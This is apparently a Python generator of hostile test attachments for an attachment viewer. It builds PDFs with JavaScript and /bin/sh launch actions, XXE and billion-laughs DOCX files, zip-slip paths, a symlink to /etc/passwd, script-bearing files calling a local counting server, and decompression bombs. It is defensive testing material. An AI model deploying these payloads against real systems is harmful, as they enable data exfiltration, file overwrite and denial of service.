"""Makes attachments that mean harm, each named by its fault: `generate.py FOLDER PORT`.

What points outside points at 127.0.0.1:PORT, where the test counts who asks. `list.json` says of
each whether it may be shown (`either`: a browser may well repair it) or must be refused (`never`).
"""

import io
import json
import struct
import sys
import zipfile
import zlib
from pathlib import Path

FOLDER, PORT = Path(sys.argv[1]), int(sys.argv[2])
OUTSIDE = f"http://127.0.0.1:{PORT}"
LISTED: list[dict[str, str]] = []


def put(name: str, data: bytes, verdict: str = "either") -> None:
    (FOLDER / name).write_bytes(data)
    LISTED.append({"file": name, "verdict": verdict})


# PDF ------------------------------------------------------------------------------------------

PAGE = "<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>>>"
FONT = "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"


def stream(body: bytes, dictionary: str = "") -> bytes:
    return f"<</Length {len(body)}{dictionary}>>stream\n".encode() + body + b"\nendstream"


def pdf(objects: dict[int, bytes | str] | None = None, trailer: str = "/Root 1 0 R", prefix: bytes = b"", suffix: bytes = b"") -> bytes:
    parts: dict[int, bytes | str] = {
        1: "<</Type/Catalog/Pages 2 0 R>>",
        2: "<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: PAGE,
        4: stream(b"BT /F 24 Tf 72 720 Td (page) Tj ET"),
        5: FONT,
    }
    parts.update(objects or {})
    out, places = bytearray(prefix + b"%PDF-1.7\n"), {}
    for number, body in sorted(parts.items()):
        places[number] = len(out)
        out += f"{number} 0 obj\n".encode() + (body if isinstance(body, bytes) else body.encode()) + b"\nendobj\n"
    start, size = len(out), max(places) + 1
    out += f"xref\n0 {size}\n0000000000 65535 f \n".encode()
    for number in range(1, size):
        out += b"%010d 00000 n \n" % places[number] if number in places else b"0000000000 65535 f \n"
    out += f"trailer<</Size {size}{trailer}>>\nstartxref\n{start}\n%%EOF\n".encode()
    return bytes(out) + suffix


def pdfs() -> None:
    good = pdf()
    action = lambda what: pdf({1: f"<</Type/Catalog/Pages 2 0 R/OpenAction {what}>>"})
    image = lambda dictionary, data: pdf({
        3: "<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</XObject<</I 6 0 R>>>>>>",
        4: stream(b"q 595 0 0 842 0 0 cm /I Do Q"),
        6: stream(data, f"/Type/XObject/Subtype/Image{dictionary}"),
    })
    put("pdf truncated in the middle.pdf", good[: len(good) // 2])
    put("pdf header alone.pdf", b"%PDF-1.7\n", "never")
    put("pdf followed by nothing but zeros.pdf", b"%PDF-1.7\n" + b"\0" * 100_000, "never")
    put("pdf without xref.pdf", good[: good.index(b"xref")])
    put("pdf page tree in a circle.pdf", pdf({2: "<</Type/Pages/Kids[2 0 R]/Count 1>>"}), "never")
    put("pdf page tree through two nodes in a circle.pdf", pdf({2: "<</Type/Pages/Kids[6 0 R]/Count 1>>", 6: "<</Type/Pages/Parent 2 0 R/Kids[2 0 R]/Count 1>>"}), "never")
    put("pdf length that is itself.pdf", pdf({4: b"<</Length 4 0 R>>stream\nBT ET\nendstream"}))
    put("pdf xref that goes back to itself.pdf", pdf(trailer="/Root 1 0 R/Prev 9"))
    put("pdf javascript at opening.pdf", action(f"<</S/JavaScript/JS(app.launchURL\\('{OUTSIDE}/js'\\))>>"))
    put("pdf launch at opening.pdf", action("<</S/Launch/F(/bin/sh)>>"))
    put("pdf address at opening.pdf", action(f"<</S/URI/URI({OUTSIDE}/uri)>>"))
    put("pdf form sent at opening.pdf", action(f"<</S/SubmitForm/F({OUTSIDE}/form)>>"))
    put("pdf other document at opening.pdf", action(f"<</S/GoToR/F<</FS/URL/F({OUTSIDE}/other.pdf)>>/D[0/Fit]>>"))
    put("pdf link over the whole page.pdf", pdf({3: PAGE[:-2] + f"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 595 842]/A<</S/URI/URI({OUTSIDE}/link)>>>>]>>"}))
    put("pdf picture from outside.pdf", image(f"/Width 1/Height 1/F<</FS/URL/F({OUTSIDE}/img)>>", b""))
    put("pdf embedded program.pdf", pdf({1: "<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles<</Names[(a.exe) 6 0 R]>>>>>>", 6: "<</Type/Filespec/F(a.exe)/EF<</F 7 0 R>>>>", 7: stream(b"MZ")}))
    put("pdf content that unfolds to 25 MB.pdf", pdf({4: stream(zlib.compress(b"0 0 m " * (1 << 20) * 4, 9), "/Filter/FlateDecode")}))
    bomb = zlib.compress(zlib.compress(b"\0" * (512 << 20), 9), 9)
    put("pdf content packed twice.pdf", pdf({4: stream(bomb, "/Filter[/FlateDecode/FlateDecode]")}))
    pieces = range(10, 50)
    page = PAGE.replace("/Contents 4 0 R", "/Contents[" + " ".join(f"{n} 0 R" for n in pieces) + "]")
    put("pdf content in forty packed pieces.pdf", pdf({3: page} | {n: stream(zlib.compress(b"0 0 m " * (5 << 20), 9), "/Filter/FlateDecode") for n in pieces}))
    put("pdf of ten million drawing steps.pdf", pdf({4: stream(zlib.compress(b"q Q " * 5_000_000, 9), "/Filter/FlateDecode")}))
    put("pdf page of a thousand kilometres.pdf", pdf({3: PAGE.replace("0 0 595 842", "0 0 999999999 999999999")}))
    put("pdf page of negative size.pdf", pdf({3: PAGE.replace("0 0 595 842", "595 842 -595 -842")}))
    put("pdf page of no size.pdf", pdf({3: PAGE.replace("0 0 595 842", "0 0 0 0")}))
    put("pdf page a million times higher than wide.pdf", pdf({3: PAGE.replace("0 0 595 842", "0 0 1 1000000")}))
    put("pdf that counts a thousand million pages.pdf", pdf({2: "<</Type/Pages/Kids[3 0 R]/Count 1000000000>>"}))
    put("pdf arrays a hundred thousand deep.pdf", pdf({4: stream(b"[" * 100_000 + b"]" * 100_000 + b" TJ")}))
    put("pdf dictionary a hundred thousand deep.pdf", pdf({6: "<</A" * 100_000 + ">>" * 100_000}))
    put("pdf picture that unfolds to 512 MB.pdf", image("/Width 1000/Height 1000/ColorSpace/DeviceGray/BitsPerComponent 8/Filter/FlateDecode", zlib.compress(b"\0" * (512 << 20), 9)))
    put("pdf picture of 100000 by 100000.pdf", image("/Width 100000/Height 100000/ColorSpace/DeviceRGB/BitsPerComponent 8/Filter/FlateDecode", zlib.compress(b"\0" * 1000)))
    put("pdf jpeg2000 cut off.pdf", image("/Width 1000/Height 1000/Filter/JPXDecode", b"\0\0\0\x0cjP  \r\n\x87\n"))
    put("pdf jbig2 that lies about its size.pdf", image("/Width 100/Height 100/ColorSpace/DeviceGray/BitsPerComponent 1/Filter/JBIG2Decode", struct.pack(">IBBBIIIIIBH", 0, 48, 0, 1, 19, 0xFFFFFFFF, 0xFFFFFFFF, 0, 0, 0, 0)))
    put("pdf ccitt of 100000 columns.pdf", image("/Width 100000/Height 100000/ColorSpace/DeviceGray/BitsPerComponent 1/Filter/CCITTFaxDecode/DecodeParms<</K -1/Columns 100000/Rows 100000>>", b"\xff" * 100))
    put("pdf drawing that draws itself.pdf", pdf({3: "<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</XObject<</X 6 0 R>>>>>>", 4: stream(b"/X Do"), 6: stream(b"/X Do /X Do", "/Type/XObject/Subtype/Form/BBox[0 0 10 10]/Resources<</XObject<</X 6 0 R>>>>")}))
    put("pdf font of rubbish.pdf", pdf({5: "<</Type/Font/Subtype/TrueType/BaseFont/X/FontDescriptor 6 0 R>>", 6: "<</Type/FontDescriptor/FontName/X/FontFile2 7 0 R>>", 7: stream(b"\0\1\0\0" + b"\xff" * 500)}))
    put("pdf locked with a password.pdf", pdf({6: "<</Filter/Standard/V 1/R 2/O(" + "x" * 32 + ")/U(" + "y" * 32 + ")/P -4>>"}, "/Root 1 0 R/Encrypt 6 0 R/ID[<00><00>]"), "never")
    put("pdf with a form of scripts.pdf", pdf({1: "<</Type/Catalog/Pages 2 0 R/AcroForm<</XFA 6 0 R/Fields[]>>>>", 6: stream(f'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>fetch("{OUTSIDE}/xfa")</script></xdp:xdp>'.encode())}))
    put("pdf that is also a page.pdf", pdf(prefix=f"<script>fetch('{OUTSIDE}/html')</script>".encode()))
    put("pdf that is also an archive.pdf", pdf(suffix=archive({"a.txt": b"x"})))


# Pictures -------------------------------------------------------------------------------------


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width: int, height: int, data: bytes, depth: int = 8, colour: int = 2) -> bytes:
    head = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def pictures() -> None:
    small = png(10, 10, zlib.compress((b"\0" + b"\x80" * 30) * 10))
    put("png of 100000 by 100000.png", png(100_000, 100_000, zlib.compress(b"\0" * 1000)), "never")
    put("png that unfolds to 30000 by 30000.png", png(30_000, 30_000, zlib.compress((b"\0" * 3751) * 30_000, 9), 1, 0), "never")
    put("png cut off.png", small[:40])
    put("png with a wrong checksum.png", small[:20] + b"\x07" + small[21:])
    put("png with a chunk of 2 GB.png", small[:33] + struct.pack(">I", 0x7FFFFFFF) + small[37:])
    put("png of nothing.png", png(0, 0, b""), "never")
    put("png that is a script.png", f"<svg xmlns='http://www.w3.org/2000/svg' onload='fetch(\"{OUTSIDE}/svg\")'/>".encode(), "never")
    sof = b"\xff\xd8\xff\xc0" + struct.pack(">HBHHB", 17, 8, 65_535, 65_535, 3) + b"\1\x11\0\2\x11\1\3\x11\1" + b"\xff\xd9"
    put("jpeg of 65535 by 65535.jpg", sof, "never")
    put("jpeg cut off.jpg", b"\xff\xd8\xff\xe0\0\x10JFIF\0\1\1\0\0\1\0\1\0\0", "never")
    put("jpeg of rubbish.jpg", b"\xff\xd8\xff" + b"\xda" * 5_000, "never")
    put("webp that lies about its size.webp", b"RIFF" + struct.pack("<I", 0xFFFFFFF0) + b"WEBPVP8 " + struct.pack("<I", 0xFFFFFF00) + b"\x30\1\0\x9d\1\x2a\xff\xff\xff\xff")
    put("webp cut off.webp", b"RIFF\x10\0\0\0WEBP", "never")
    put("heic cut off.heic", struct.pack(">I", 24) + b"ftypheic\0\0\0\0mif1heic", "never")
    put("heic with a box of 4 GB.heic", struct.pack(">I", 24) + b"ftypheic\0\0\0\0mif1heic" + b"\xff\xff\xff\xffmeta" + b"\0" * 100, "never")


# TIFF -----------------------------------------------------------------------------------------


def tiff(tags: dict[int, tuple[int, int, int]], data: bytes = b"", following: int = 0) -> bytes:
    """One directory at 8; tag: type, count, value. The data comes after it."""
    out = b"II*\0" + struct.pack("<I", 8) + struct.pack("<H", len(tags))
    for tag, (kind, count, value) in sorted(tags.items()):
        out += struct.pack("<HHII", tag, kind, count, value)
    return out + struct.pack("<I", following) + data


def tiffs() -> None:
    def tags(**changed: tuple[int, int, int]) -> dict[int, tuple[int, int, int]]:
        found = {256: (4, 1, 64), 257: (4, 1, 64), 258: (3, 1, 8), 259: (3, 1, 1), 262: (3, 1, 1), 273: (4, 1, 200), 277: (3, 1, 1), 278: (4, 1, 64), 279: (4, 1, 4096)}
        found.update({int(tag[1:]): value for tag, value in changed.items()})
        return found

    body = b"\0" * 5_000
    put("tiff strip beyond the end.tif", tiff(tags(t273=(4, 1, 0x7FFFFFFF)), body))
    put("tiff strip of 4 GB.tif", tiff(tags(t279=(4, 1, 0xFFFFFFFF)), body))
    put("tiff directory in a circle.tif", tiff(tags(), body, 8))
    put("tiff of 100000 by 100000.tif", tiff(tags(t256=(4, 1, 100_000), t257=(4, 1, 100_000)), body))
    put("tiff in g4 of 100000 by 100000.tif", tiff(tags(t256=(4, 1, 100_000), t257=(4, 1, 100_000), t258=(3, 1, 1), t259=(3, 1, 4), t278=(4, 1, 100_000)), body))
    put("tiff in g4 of a hundred megapixels of rubbish.tif", tiff(tags(t256=(4, 1, 10_000), t257=(4, 1, 10_000), t258=(3, 1, 1), t259=(3, 1, 4), t278=(4, 1, 10_000)), b"\xa5" * 5_000))
    put("tiff of no width.tif", tiff(tags(t256=(4, 1, 0)), body))
    put("tiff with 65535 samples a pixel.tif", tiff(tags(t277=(3, 1, 65_535)), body))
    put("tiff with a thousand million values.tif", tiff(tags(t273=(4, 1_000_000_000, 200)), body))
    put("tiff with strips of no rows.tif", tiff(tags(t278=(4, 1, 0)), body))
    put("tiff of rubbish in lzw.tif", tiff(tags(t259=(3, 1, 5)), b"\xff" * 5_000))
    put("tiff of rubbish in jpeg.tif", tiff(tags(t259=(3, 1, 7)), b"\xff\xd8" * 2_500))
    put("tiff in a compression nobody knows.tif", tiff(tags(t259=(3, 1, 60_000)), body))
    put("tiff directory beyond the end.tif", b"II*\0\xff\xff\xff\x7f", "never")
    put("tiff cut off.tif", tiff(tags(), body)[:60])
    chain, at = b"II*\0" + struct.pack("<I", 8), 8
    for _ in range(5_000):
        entry = struct.pack("<H", 2) + struct.pack("<HHII", 256, 4, 1, 1) + struct.pack("<HHII", 257, 4, 1, 1)
        at += len(entry) + 4
        chain += entry + struct.pack("<I", at)
    put("tiff of five thousand pages.tif", chain[:-4] + b"\0\0\0\0", "never")
    put("tiff that says it is a bigtiff.tif", b"II+\0\x08\0\0\0" + b"\xff" * 100, "never")


# Archives and what stands in them ---------------------------------------------------------------


def archive(files: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as target:
        for name, data in files.items():
            target.writestr(name, data)
    return out.getvalue()


TYPES = b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
RELS = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>'
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def docx(body: str, rels: str = "", more: dict[str, bytes] | None = None, before: str = "") -> bytes:
    document = f'<?xml version="1.0"?>{before}<w:document xmlns:w="{WORD}" xmlns:r="{OFFICE}" xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><w:body>{body}</w:body></w:document>'
    files = {
        "[Content_Types].xml": TYPES,
        "_rels/.rels": RELS,
        "word/document.xml": document.encode(),
        "word/_rels/document.xml.rels": f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{rels}</Relationships>'.encode(),
    }
    files.update(more or {})
    return archive(files)


def documents() -> None:
    words = lambda text: f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"
    outside = lambda kind, path: f'<Relationship Id="r9" Type="{OFFICE}/{kind}" Target="{OUTSIDE}/{path}" TargetMode="External"/>'
    picture = '<w:p><w:r><w:drawing><wp:inline><wp:extent cx="900000" cy="900000"/><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:blipFill><a:blip r:link="r9" r:embed="r9"/></pic:blipFill><pic:spPr/></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>'
    put("docx picture from outside.docx", docx(picture + words("text"), outside("image", "image")))
    put("docx template from outside.docx", docx(words("text"), outside("attachedTemplate", "template")))
    put("docx link to a script.docx", docx(f'<w:p><w:hyperlink r:id="r9"><w:r><w:t>press</w:t></w:r></w:hyperlink></w:p>', f'<Relationship Id="r9" Type="{OFFICE}/hyperlink" Target="javascript:fetch(&quot;{OUTSIDE}/link&quot;)" TargetMode="External"/>'))
    put("docx page of scripts inside.docx", docx('<w:altChunk r:id="r9"/>' + words("text"), f'<Relationship Id="r9" Type="{OFFICE}/aFChunk" Target="chunk.html"/>', {"word/chunk.html": f"<script>fetch('{OUTSIDE}/chunk')</script><img src='{OUTSIDE}/chunkimg'>".encode()}))
    put("docx entity a billion times.docx", docx(words("&e9;"), before="<!DOCTYPE x [<!ENTITY e0 'lol'>" + "".join(f"<!ENTITY e{n + 1} '{f'&e{n};' * 10}'>" for n in range(9)) + "]>"))
    put("docx entity from outside.docx", docx(words("&out;"), before=f"<!DOCTYPE x [<!ENTITY out SYSTEM '{OUTSIDE}/entity'>]>"))
    put("docx that unfolds to 1 GB.docx", docx(words("text"), more={"word/media/a.bin": b"\0" * (1 << 30)}), "never")
    put("docx of ten thousand and one files.docx", docx(words("text"), more={f"word/media/{n}.bin": b"x" for n in range(10_001)}), "never")
    put("docx tables three thousand deep.docx", docx("<w:tbl><w:tr><w:tc>" * 3_000 + words("deep") + "</w:tc></w:tr></w:tbl>" * 3_000))
    put("docx cut off.docx", docx(words("text"))[:300], "never")
    put("docx that is no archive.docx", b"PK\3\4 and nothing", "never")
    put("docx without a document.docx", archive({"[Content_Types].xml": TYPES}), "never")
    put("docx paths out of the folder.docx", docx(words("text"), more={"../../../../tmp/luguo-escaped": b"x"}))


def workbooks() -> None:
    sheet = lambda cells: f'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">{cells}</worksheet>'

    def xlsx(cells: str, more: dict[str, bytes] | None = None) -> bytes:
        files = {
            "[Content_Types].xml": TYPES.replace(b"/word/document.xml", b"/xl/workbook.xml"),
            "_rels/.rels": RELS.replace(b"word/document.xml", b"xl/workbook.xml"),
            "xl/workbook.xml": f'<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="{OFFICE}"><sheets><sheet name="s" sheetId="1" r:id="r1"/></sheets></workbook>'.encode(),
            "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="{OFFICE}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>'.encode(),
            "xl/worksheets/sheet1.xml": sheet(cells).encode(),
        }
        files.update(more or {})
        return archive(files)

    row = lambda cell: f'<sheetData><row r="1">{cell}</row></sheetData>'
    put("xlsx of seventeen thousand million cells.xlsx", xlsx('<dimension ref="A1:XFD1048576"/><sheetData><row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'))
    put("xlsx cell outside every sheet.xlsx", xlsx(row('<c r="ZZZZZZ99999999999"><v>1</v></c>')))
    put("xlsx that unfolds to 1 GB.xlsx", xlsx(row('<c r="A1"><v>1</v></c>'), {"xl/media/a.bin": b"\0" * (1 << 30)}), "never")
    put("xlsx formula that asks outside.xlsx", xlsx(row(f'<c r="A1"><f>WEBSERVICE("{OUTSIDE}/formula")</f><v>1</v></c>')))
    put("xlsx cut off.xlsx", xlsx(row('<c r="A1"><v>1</v></c>'))[:400], "never")
    put("xlsx without sheets.xlsx", archive({"[Content_Types].xml": TYPES}), "never")


def archives() -> None:
    put("zip paths out of the folder.zip", archive({"../../../../tmp/luguo-escaped": b"x", "/tmp/luguo-escaped": b"x", "C:\\luguo-escaped": b"x"}))
    link = zipfile.ZipInfo("link")
    link.external_attr = 0o120777 << 16
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as target:
        target.writestr(link, "/etc/passwd")
        target.writestr("\u202egpj.exe", b"x")
        target.writestr("\u202egpj.exe", b"y")
        target.writestr("CON.txt", b"x")
        target.writestr("<img src=x onerror=alert(1)>.txt", b"x")
    put("zip of links, devices, twins and turned names.zip", out.getvalue())
    put("zip of ten thousand and one files.zip", archive({f"{n}.txt": b"" for n in range(10_001)}), "never")
    put("zip that unfolds to 1 GB.zip", archive({"a.bin": b"\0" * (1 << 30)}))
    good = archive({"a.txt": b"x" * 1_000})
    put("zip cut off in its directory.zip", good[:-30], "never")
    put("zip that lies about its directory.zip", good[:-6] + b"\xff\xff\xff\x7f\0\0", "never")


def films() -> None:
    box = lambda kind, data, size=None: struct.pack(">I", len(data) + 8 if size is None else size) + kind + data
    head = box(b"ftyp", b"isom\0\0\0\0isommp41")
    put("mp4 with a box of 4 GB.mp4", head + box(b"moov", b"\0" * 100, 0xFFFFFFFF), "never")
    put("mp4 with a box smaller than itself.mp4", head + box(b"moov", b"\0" * 100, 3), "never")
    put("mp4 boxes ten thousand deep.mp4", head + b"".join(box(b"moov", b"", 8 * (10_000 - n)) for n in range(10_000)), "never")
    put("mp4 cut off.mp4", head, "never")
    put("mp4 that is a page.mp4", f"<script>fetch('{OUTSIDE}/film')</script>".encode(), "never")
    put("webm of rubbish.webm", b"\x1a\x45\xdf\xa3" + b"\xff" * 1_000, "never")


def texts() -> None:
    put("txt that is a page.txt", f"<script>fetch('{OUTSIDE}/txt')</script><img src='{OUTSIDE}/txtimg'>".encode())
    put("txt of zeros and half characters.txt", b"\0\xd8\xff\xfe\x80" * 2_000)
    put("txt of one line of ten megabytes.txt", b"x" * (10 << 20))


FOLDER.mkdir(parents=True, exist_ok=True)
pdfs()
pictures()
tiffs()
documents()
workbooks()
archives()
films()
texts()
(FOLDER / "list.json").write_text(json.dumps(LISTED, ensure_ascii=False, indent=1))
